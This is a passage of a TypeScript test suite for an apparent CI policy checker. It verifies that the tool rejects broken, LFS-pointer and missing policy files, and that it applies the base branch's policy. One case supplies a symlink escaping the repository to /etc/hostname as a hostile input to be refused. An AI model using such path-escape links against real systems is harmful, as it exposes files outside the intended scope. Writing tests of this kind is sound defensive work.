    ],
  ])('%s', async ([, base, head, inputs]) => {
    expect(await judgedOnDisk(base, head, { inputs })).toMatch(/^fail: .*unlisted/);
  });

  test('brought in where there was none, it does not count yet', async () => {
    const brought = { ...with1(bad), ...soft };
    expect(await judgedOnDisk({ 'a.txt': '' }, brought)).toMatch(/^fail: .*below/);
    const elsewhere = { ...with1(bad), 'own.yml': 'preset: report-only\n' };
    const inputs = { 'config-file': 'own.yml' };
    expect(await judgedOnDisk({ 'a.txt': '' }, elsewhere, { inputs })).toMatch(/^fail: .*below/);
  });

  test.for<[string, unknown]>([
    ['broken', 'preset: [\n'],
    ['a link that leads nowhere', linkTo('nowhere.yml')],
    ['a link out of the repository', linkTo('/etc/hostname')],
    ['of Git LFS', 'version https://git-lfs.github.com/spec/v1\n'],
  ])('%s, it is an error', async ([, content]) => {
    await expect(
      judgedOnDisk(strict, { ...ungraded, [policyFile]: content }),
    ).rejects.toMatchObject({ code: 'invalid-policy' });
  });

  test('of the default branch it holds, whatever branch the change goes into', async () => {
    const root = await newRepository();
    const main = await commit(root, strict);
    await git(root, 'update-ref', 'refs/remotes/origin/main', main);
    const base = await commit(root, soft);
    const head = await commit(root, { ...ungraded, ...soft });
    const event = { base, head, sha: head, baseBranch: 'mild' };
    expect(summaryOf(await judgeCheckout(root, event))).toMatch(/^fail: .*unlisted/);
  });

  test('whose text the checkout lacks is in force all the same', async () => {
    const root = await newRepository();
    const base = await commit(root, { ...strict, 'a.txt': '' });
    const blob = await git(root, 'rev-parse', `HEAD:${policyFile}`);
    const head = await commit(root, { ...ungraded, ...soft });
    await rm(join(root, '.git/objects', blob.slice(0, 2), blob.slice(2)));
    await expect(judgeCheckout(root, { base, head, sha: head })).rejects.toMatchObject({
      code: 'no-base-policy',
    });
  });

  test('without a base the change’s own does not stand in for it', async () => {
    const root = await newRepository();
    const head = await commit(root, { ...ungraded, ...soft });
    const event = { base: 'c'.repeat(40), head, sha: head };
    await expect(judgeCheckout(root, event)).rejects.toMatchObject({ code: 'no-base-policy' });
  });
});
